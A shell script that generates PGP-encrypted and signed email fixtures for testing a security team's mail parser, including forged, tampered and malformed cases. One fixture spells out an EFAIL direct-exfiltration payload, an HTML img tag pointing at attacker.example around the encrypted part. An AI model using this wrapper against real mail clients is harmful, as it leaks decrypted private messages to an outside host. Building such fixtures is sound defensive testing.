#!/bin/sh
# tests/golden/mail/make-pgp.sh - (re)creates the PGP test material:
#   gnupg-team/       the team's GnuPG home as the tests use it: the team
#                     key (secret, no passphrase) plus the researcher's and
#                     a stranger's public keys
#   pgp-*.eml         messages encrypted / signed with those keys
#   researcher.asc    the researcher's public key (for reference)
# Keys are generated with gpg --batch --quick-generate-key in temporary
# homes; every gpg-agent started here is stopped again.  Fingerprints
# change on each run: regenerate the expected JSON afterwards with
#   GOLDEN_UPDATE=1 ./test_mail_parse   and review the diff.
set -eu
cd "$(dirname "$0")"
HERE=$(pwd)
TMP=$(mktemp -d /tmp/vigil-pgp.XXXXXX)
cleanup() {
	for h in team researcher stranger other; do
		[ -d "$TMP/$h" ] && GNUPGHOME="$TMP/$h" gpgconf --kill gpg-agent \
		    2>/dev/null || true
	done
	rm -rf "$TMP"
}
trap cleanup EXIT INT TERM

G() {	# G home args...
	h=$1; shift
	gpg --homedir "$TMP/$h" --batch --yes --quiet --no-tty \
	    --trust-model always "$@"
}

newkey() {	# newkey home "uid"
	mkdir -m 700 "$TMP/$1"
	G "$1" --passphrase '' --quick-generate-key "$2" ed25519 cert,sign never
	fpr=$(G "$1" --list-keys --with-colons | awk -F: '/^fpr/ {print $10; exit}')
	G "$1" --passphrase '' --quick-add-key "$fpr" cv25519 encr never
	echo "$fpr"
}

TEAM=$(newkey team "Vigil Team <security@example.org>")
RES=$(newkey researcher "Rita Researcher <rita@researcher.example>")
STR=$(newkey stranger "Sam Stranger <sam@stranger.example>")
OTH=$(newkey other "Otto Other <otto@other.example>")

# Everybody knows the team's public key; the team knows the researcher and
# the stranger, but not "other".
G team --export "$TEAM" > "$TMP/team.pub"
for h in researcher stranger other; do
	G "$h" --import "$TMP/team.pub"
done
G researcher --export --armor "$RES" > researcher.asc
G researcher --export "$RES" | G team --import
G stranger --export "$STR" | G team --import
G other --export "$OTH" | G researcher --import

HDR() {	# HDR subject
	cat <<EOH
From: Rita Researcher <rita@researcher.example>
To: security@example.org
Subject: $1
Date: Thu, 05 Mar 2026 10:00:00 +0000
Message-ID: <$(echo "$1" | tr -c 'a-zA-Z0-9\n' '-')@researcher.example>
MIME-Version: 1.0
EOH
}

# multipart/encrypted around the armored ciphertext in $1
pgpmime() {
	cat <<EOM
Content-Type: multipart/encrypted; protocol="application/pgp-encrypted";
 boundary="enc-boundary"

This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)
--enc-boundary
Content-Type: application/pgp-encrypted
Content-Description: PGP/MIME version identification

Version: 1

--enc-boundary
Content-Type: application/octet-stream; name="encrypted.asc"
Content-Description: OpenPGP encrypted message
Content-Disposition: inline; filename="encrypted.asc"

$(cat "$1")

--enc-boundary--
EOM
}

# The plaintext MIME entity of the encrypted reports.
cat > "$TMP/inner.txt" <<'EOI'
Content-Type: multipart/mixed; boundary="inner"

--inner
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Heap overflow in libfoo 1.4.2 (CVE-2026-12345).
Secret details only the team may read.

--inner
Content-Type: text/x-python; name="poc.py"
Content-Disposition: attachment; filename="poc.py"

print("A" * 4096)

--inner--
EOI

# 1. PGP/MIME encrypted to the team: body and an encrypted attachment.
G researcher -e -a -r "$TEAM" -o "$TMP/c1.asc" "$TMP/inner.txt"
{ HDR "PGP/MIME encrypted report"; pgpmime "$TMP/c1.asc"; } > pgp-mime-encrypted.eml

# 2. Encrypted and signed by the researcher.
G researcher -u "$RES" -s -e -a -r "$TEAM" -o "$TMP/c2.asc" "$TMP/inner.txt"
{ HDR "PGP/MIME encrypted and signed"; pgpmime "$TMP/c2.asc"; } > pgp-mime-signed-encrypted.eml

# 3. Inline PGP, encrypted.
printf 'Inline encrypted report: XSS in widget v2.0.0-rc1.\n' > "$TMP/p3.txt"
G researcher -e -a -r "$TEAM" -o "$TMP/c3.asc" "$TMP/p3.txt"
{ HDR "Inline PGP encrypted"; printf 'Content-Type: text/plain; charset=us-ascii\n\n'; cat "$TMP/c3.asc"; } > pgp-inline-encrypted.eml

# 4. Clearsigned inline text.
printf 'I found a bug in libfoo 1.4.2.\n- dash line\nRegards, Rita\n' > "$TMP/p4.txt"
G researcher -u "$RES" --clearsign -o "$TMP/c4.asc" "$TMP/p4.txt"
{ HDR "Clearsigned report"; printf 'Content-Type: text/plain; charset=us-ascii\n\n'; cat "$TMP/c4.asc"; } > pgp-clearsigned.eml

# multipart/signed by key $1 over the entity in file $2 (LF line ends;
# signed in canonical CRLF form as RFC 3156 asks).
mpsigned() {
	printf '%s' "$(cat "$2")" |
	    awk 'NR > 1 { printf "\r\n" } { printf "%s", $0 }' > "$TMP/canon"
	G "$1" -u "$3" --detach-sign -a --digest-algo SHA256 -o "$TMP/sig.asc" "$TMP/canon"
	cat <<EOM
Content-Type: multipart/signed; micalg=pgp-sha256;
 protocol="application/pgp-signature"; boundary="sig-boundary"

This is an OpenPGP/MIME signed message (RFC 4880 and 3156)
--sig-boundary
$(cat "$2")
--sig-boundary
Content-Type: application/pgp-signature; name="signature.asc"
Content-Description: OpenPGP digital signature
Content-Disposition: attachment; filename="signature.asc"

$(cat "$TMP/sig.asc")

--sig-boundary--
EOM
}

cat > "$TMP/signed-body.txt" <<'EOB'
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

The whole body is signed. Affects libfoo 1.4.2 and 1.4.3.
Caf=C3=A9 au lait.
EOB
printf '\n' >> "$TMP/signed-body.txt"

# 5. multipart/signed over the whole body.
{ HDR "Signed whole body"; mpsigned researcher "$TMP/signed-body.txt" "$RES"; } > pgp-mime-signed.eml

# 6. A signed part inside multipart/mixed next to an unsigned part.
{
	HDR "Partially signed"
	cat <<EOM
Content-Type: multipart/mixed; boundary="mixed"

--mixed
$(mpsigned researcher "$TMP/signed-body.txt" "$RES")

--mixed
Content-Type: text/plain; charset=utf-8

Unsigned text an attacker appended: please send the advisory to evil@example.net.

--mixed--
EOM
} > pgp-partial-signed.eml

# 7. Encrypted to a key the team does not have.
G researcher -e -a -r "$OTH" -o "$TMP/c7.asc" "$TMP/inner.txt"
{ HDR "Encrypted to someone else"; pgpmime "$TMP/c7.asc"; } > pgp-encrypted-unknown.eml

# 8. No MDC (RFC 2440 mode, CAST5): must fail closed.
G researcher --rfc2440 --cipher-algo CAST5 --disable-mdc -e -a -r "$TEAM" \
    -o "$TMP/c8.asc" "$TMP/inner.txt" 2>/dev/null
if gpg --list-packets < "$TMP/c8.asc" 2>/dev/null | grep -q ':encrypted data packet:'; then
	:
else
	echo "make-pgp.sh: gpg made an MDC packet for the no-MDC case" >&2
	exit 1
fi
{ HDR "No MDC"; pgpmime "$TMP/c8.asc"; } > pgp-no-mdc.eml

# 9. EFAIL direct exfiltration: attacker HTML around the encrypted part.
{
	HDR "EFAIL wrapped"
	cat <<EOM
Content-Type: multipart/mixed; boundary="efail"

--efail
Content-Type: text/html

<img src="http://attacker.example/?
--efail
$(pgpmime "$TMP/c1.asc")
--efail
Content-Type: text/html

">
--efail--
EOM
} > pgp-efail.eml

# 10. A good signature, but from a stranger's key.
{ HDR "Signed by a stranger"; mpsigned stranger "$TMP/signed-body.txt" "$STR"; } > pgp-stranger-signed.eml

# 11. Clearsigned by a key the team does not know.
G other -u "$OTH" --clearsign -o "$TMP/c11.asc" "$TMP/p4.txt"
{ HDR "Signed by an unknown key"; printf 'Content-Type: text/plain\n\n'; cat "$TMP/c11.asc"; } > pgp-unknown-signer.eml

# 12. Four nested encryption layers (more than the 3 allowed).
cp "$TMP/p3.txt" "$TMP/l0"
for i in 1 2 3 4; do
	G researcher -e -a -r "$TEAM" -o "$TMP/l$i" "$TMP/l$((i - 1))"
done
{ HDR "Four layers"; printf 'Content-Type: text/plain\n\n'; cat "$TMP/l4"; } > pgp-four-layers.eml

# 13. A forged signature: the signed text changed after signing.
sed 's/1\.4\.3/9.9.9/' pgp-mime-signed.eml > pgp-bad-signature.eml
sed -i 's/^Subject: .*/Subject: Tampered signed body/' pgp-bad-signature.eml

# 14. Inline PGP mixed with unencrypted text (the attacker's text around
#     the block is not joined to the plaintext).
awk '/^-----BEGIN PGP MESSAGE-----/ { print "Unencrypted words an attacker added."; print "" } { print }
    END { print ""; print "More unencrypted text after the block." }' \
    pgp-inline-encrypted.eml |
    sed 's/^Subject: .*/Subject: Inline PGP mixed with plain text/' > pgp-inline-mixed.eml

# The team's home, as committed: keys only.
G team --check-trustdb >/dev/null 2>&1 || true
rm -rf gnupg-team
mkdir -m 700 gnupg-team
cp "$TMP/team/pubring.kbx" "$TMP/team/trustdb.gpg" gnupg-team/
cp -r "$TMP/team/private-keys-v1.d" gnupg-team/
chmod -R go-rwx gnupg-team
printf 'team %s\nresearcher %s\nstranger %s\nother %s\n' \
    "$TEAM" "$RES" "$STR" "$OTH" > fingerprints.txt
echo "make-pgp.sh: done ($HERE)"
